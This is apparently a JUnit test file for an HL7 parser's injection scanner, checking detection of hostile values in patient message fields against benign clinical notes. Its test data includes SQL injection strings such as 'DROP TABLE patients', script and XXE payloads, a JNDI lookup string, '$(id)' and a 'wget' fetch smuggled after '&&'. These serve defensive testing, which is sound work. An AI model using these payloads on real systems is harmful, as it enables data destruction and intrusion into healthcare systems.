package io.wardtap.protocol.hl7;

import static io.wardtap.protocol.hl7.ParserFeeder.parse;
import static io.wardtap.protocol.hl7.Wire.block;
import static io.wardtap.protocol.hl7.Wire.message;
import static io.wardtap.protocol.hl7.Wire.text;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.wardtap.protocol.flow.Direction;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;

final class InjectionScanTest {
    private static final String MSH = "MSH|^~\\&|HIS|EXH|EHR|SITE2|20260311||ORU^R01|1|P|2.5.1";

    @ParameterizedTest
    @CsvSource(
            delimiter = '#',
            quoteCharacter = '@',
            value = {
                "SQL# O' OR '1'='1",
                "SQL# x' UNION SELECT name FROM users",
                "SQL# a'; DROP TABLE patients",
                "SCRIPT# <ScRiPt>alert(1)</sCrIpT>",
                "SCRIPT# <!ENTITY x SYSTEM \"file:///a\">",
                "COMMAND# ${jndi:ldap://h/a}",
                "COMMAND# a $(id)",
                "COMMAND# a && wget http://h/a",
                "CONTROL# a\u0001b",
                "CONTROL# a\u001Fb",
                "ESCAPE# a\\X1C0D\\b",
                "SEGMENT# a\\X0D\\PID\\F\\1"
            })
    void findsWhatBelongsIntoNoField(InjectionSign sign, String value) {
        for (int padding = 0; padding < 9; padding++) {
            Hl7Facts facts =
                    parse(message(MSH, "PID|1||7||" + "A".repeat(padding) + value + "||1970"));

            assertThat(facts.injectionSigns).as(value).isEqualTo(sign.bit());
            assertThat(facts.injectionSegment).isEqualTo(Hl7Phi.segment("PID"));
            assertThat(facts.injectionField).isEqualTo(5);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "O'Brien^Conor",
                "D'Angelo; see chart",
                "patients' and relatives' wishes",
                "RR <5 & HR >90; SpO2 = 95 % ?",
                "seen, \\T\\ discussed \\X0D\\\\X0A\\Plan: rest",
                "line\\.br\\PID of the pump",
                "drop in blood pressure; select diet",
                "cost $40; call (555) 555-0100",
                "tab\tand /bin or cmd",
                "union of ulna and radius, or 1 of them"
            })
    void passesOverWhatNotesSay(String value) {
        Hl7Facts facts =
                parse(message(MSH, "NTE|1||" + value, "OBX|1|TX|a||" + value, "PID|||7||" + value));

        assertThat(facts.injectionSigns).isZero();
        assertThat(facts.injectionField).isZero();
    }

    @Test
    void findsASegmentBehindALoneLineFeed() {
        String smuggled = "NTE|1||rest\nOBX|1|ST|x||1\r";

        assertThat(parse(message(MSH) + smuggled).injectionSigns)
                .isEqualTo(InjectionSign.SEGMENT.bit());
        assertThat(parse(message(MSH) + "NTE|1||rest\r\nOBX|1|ST|x||1\r").injectionSigns).isZero();
        ParserFeeder feeder = new ParserFeeder();
        byte[] lines = text((message(MSH) + smuggled).replace('\r', '\n'));
        assertThat(
                        feeder.read(
                                        1,
                                        Direction.ORIGINATOR,
                                        0,
                                        lines,
                                        lines.length | Hl7.LINE_FEEDS)
                                .injectionSigns)
                .isZero();
    }

    @Test
    void judgesEncapsulatedDataByItsKind() {
        String script = "<script>$(id)' or '1'='1";

        assertThat(parse(message(MSH, "OBX|1|ED|||a^text^html^A^" + script)).injectionSigns)
                .isZero();
        assertThat(parse(message(MSH, "OBX|1|ST|||" + script)).injectionSigns)
                .isEqualTo(
                        InjectionSign.SCRIPT.bit()
                                | InjectionSign.COMMAND.bit()
                                | InjectionSign.SQL.bit());
        Hl7Facts program =
                parse(message(MSH, "OBX|1|ED|||a^application^x^Base64^TVqQ" + "A".repeat(60)));
        assertThat(program.injectionSigns).isEqualTo(InjectionSign.PROGRAM.bit());
        assertThat(program.injectionField).isZero();
    }

    @Test
    void leavesTheEscapesOfIso2022Alone() {
        String japanese = "PID|1||7||\u001B$B;3ED\u001B(B";

        assertThat(parse(message(MSH + "||||||~ISO IR87", japanese)).injectionSigns).isZero();
        assertThat(parse(message(MSH, "PID|1||7||a\u001Bb")).injectionSigns)
                .isEqualTo(InjectionSign.CONTROL.bit());
    }

    @Test
    void countsAnEscapeWithoutEnd() {
        String zeros = "41".repeat(InjectionScan.LONGEST_ESCAPE / 2);

        assertThat(parse(message(MSH, "NTE|1||\\X" + zeros + "\\")).injectionSigns)
                .isEqualTo(InjectionSign.ESCAPE.bit());
        assertThat(parse(message(MSH, "NTE|1||\\X" + zeros.substring(2) + "\\")).injectionSigns)
                .isZero();
    }

    @Test
    void tellsLongFieldsAndSegments() {
        List<Boolean> longFields = new ArrayList<>();
        for (int kib : new int[] {60, 120, 140}) {
            FramerFeeder feeder = new FramerFeeder(Hl7.PROTOCOL);
            String field = "A".repeat(kib << 10);
            feeder.feed(text(block(message(MSH, "NTE|1||" + field, "NTE|2||b"))));
            Hl7Facts facts = read(feeder);
            longFields.add(facts.hasLongField);
            assertThat(facts.hasLongSegment).isFalse();
        }
        assertThat(longFields).containsExactly(false, false, true);

        FramerFeeder feeder = new FramerFeeder(Hl7.PROTOCOL);
        byte[] stream = text(block(message(MSH, "NTE" + ("|" + "A".repeat(1023)).repeat(1200))));
        for (int at = 0; at < stream.length; at += 1460) {
            feeder.feed(Arrays.copyOfRange(stream, at, Math.min(stream.length, at + 1460)));
        }
        assertThat(read(feeder).hasLongSegment).isTrue();
        assertThat(read(feeder).hasLongField).isFalse();
    }

    private static Hl7Facts read(FramerFeeder feeder) {
        byte[] unit = text(feeder.units().getFirst());
        return new ParserFeeder()
                .read(1, Direction.ORIGINATOR, 0, unit, feeder.details().getFirst());
    }

    /// No sign in any message of public projects, which nobody wrote to attack.
    @Test
    void findsNothingInTheSamples() throws IOException {
        Path samples = Hl7SamplesTest.samples();
        assumeTrue(Files.exists(samples), "no sample messages: set WARDTAP_SHARED");
        List<String> found = new ArrayList<>();
        int messages = 0;
        try (Stream<Path> files = Files.list(samples)) {
            for (Path file : files.sorted().toList()) {
                byte[] bytes = Files.readAllBytes(file);
                FramerFeeder feeder = new FramerFeeder(Hl7.PROTOCOL);
                feeder.feed(bytes).end();
                for (int i = 0; i < feeder.units().size(); i++) {
                    messages++;
                    byte[] unit = text(feeder.units().get(i));
                    Hl7Facts facts =
                            new ParserFeeder()
                                    .read(
                                            1,
                                            Direction.ORIGINATOR,
                                            0,
                                            unit,
                                            feeder.details().get(i));
                    if (facts.injectionSigns != 0) {
                        found.add(
                                file.getFileName()
                                        + " "
                                        + facts.injectionSigns
                                        + " field "
                                        + facts.injectionField);
                    }
                }
            }
        }
        System.out.println("injection signs in " + messages + " sample messages: " + found);
        assertThat(messages).isGreaterThan(50);
        assertThat(found).isEmpty();
    }
}
